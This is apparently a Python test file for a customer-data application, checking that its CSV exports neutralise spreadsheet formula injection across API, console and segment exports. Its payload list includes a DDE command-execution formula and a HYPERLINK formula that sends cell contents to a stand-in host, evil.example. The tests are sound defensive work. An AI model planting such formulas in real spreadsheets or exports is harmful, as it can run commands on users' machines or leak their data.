"""CSV exports neutralise spreadsheet formulas (OWASP CSV injection): privacy.csv_export is the one
writer, used by the API and console customer exports, segment exports (web and `shouhu segment
export`) and the channel report tables."""

from __future__ import annotations

import csv
import io

import pyarrow as pa
from sqlalchemy import text

from shouhu.privacy.csv_export import BOM, csv_text, neutralise, neutralise_arrow
from tests.web.conftest import Web

PAYLOADS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?d="&A1,"点我")', "+1", "@SUM(A1:A9)",
            "-2+3", "\t=1+1", "\r=1+1"]
HARMLESS = ["上海", "a=b", "1-2", "x@y.cn", ""]


def _cells(body: str) -> list[list[str]]:
    assert body.startswith(BOM)
    return list(csv.reader(io.StringIO(body[len(BOM):])))


def test_every_formula_start_gets_a_leading_apostrophe_and_nothing_else_changes() -> None:
    for payload in PAYLOADS:
        assert neutralise(payload) == "'" + payload
    for value in [*HARMLESS, None, 12, -3.5]:
        assert neutralise(value) == value
    rows = [{"a": p, "b": -7} for p in PAYLOADS] + [{"a": h, "b": 1} for h in HARMLESS]
    cells = _cells(csv_text(["a", "b"], rows))
    assert cells[0] == ["a", "b"]
    assert [c[0] for c in cells[1:]] == ["'" + p for p in PAYLOADS] + HARMLESS
    assert {c[1] for c in cells[1:]} == {"-7", "1"}  # numbers stay numbers


def test_the_arrow_path_neutralises_the_same_cells() -> None:
    column = pa.array(PAYLOADS + HARMLESS + [None])
    assert neutralise_arrow(column).to_pylist() == ["'" + p for p in PAYLOADS] + HARMLESS + [None]
    numbers = pa.array([-1, 2])
    assert neutralise_arrow(numbers) is numbers


def _plant(web: Web) -> None:
    """Every customer of the copy gets a formula for a city (as a hostile channel extract could)."""
    with web.engine.begin() as conn:
        ids = [r[0] for r in conn.execute(text("SELECT customer_id FROM customer ORDER BY customer_id"))]
        for i, cid in enumerate(ids):
            conn.execute(text("UPDATE customer SET city = :c WHERE customer_id = :id"),
                         {"c": PAYLOADS[i % len(PAYLOADS)], "id": cid})


def _cities(body: str) -> list[str]:
    cells = _cells(body)
    column = cells[0].index("city")
    return [row[column] for row in cells[1:]]


def test_api_console_and_segment_exports_neutralise_formulas(web: Web) -> None:
    _plant(web)
    own = web.own["agent"]
    r = web.client.post("/api/v1/customers/export", headers=web.auth("agent"),
                        json={"customer_ids": [own], "purpose": "季度回访"})
    assert r.status_code == 200, r.text
    cities = _cities(r.text)
    assert len(cities) == 1 and cities[0].startswith("'") and cities[0][1:] in PAYLOADS

    r = web.client.post("/api/v1/segments/export", headers=web.auth("admin"),
                        json={"rule": "age >= 18", "purpose": "回访"})
    assert r.status_code == 200, r.text
    cities = _cities(r.text)
    assert len(cities) > len(PAYLOADS)
    assert all(c.startswith("'") for c in cities)
    assert {c[1:] for c in cities} == set(PAYLOADS)

    csrf = web.login("agent")
    r = web.client.post("/console/customers/export", data={"csrf_token": csrf, "q": own, "purpose": "客户经营"})
    assert r.status_code == 200, r.text
    cities = _cities(r.text)
    assert cities and all(c.startswith("'") and c[1:] in PAYLOADS for c in cities)
